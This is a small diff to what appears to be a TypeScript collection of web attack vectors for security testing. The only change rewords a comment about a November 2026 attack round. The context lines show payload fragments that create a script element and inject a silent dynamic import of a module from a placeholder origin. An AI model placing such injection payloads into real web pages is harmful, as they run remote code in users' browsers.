@@ -1,6 +1,6 @@
 import { group, js } from '../vector.ts';
 
-// What a sixth attack, of November 2026, found: texts that change on their way, windows that nobody asked for, values read twice.
+// Found by a sixth attack in November 2026: texts that change on their way, windows that nobody asked for, values read twice.
 
 const S = `var s=document.createElement('script');`;
 const IMP = `"import('"+'{{o}}'+"/m.mjs').catch(()=>{})"`;
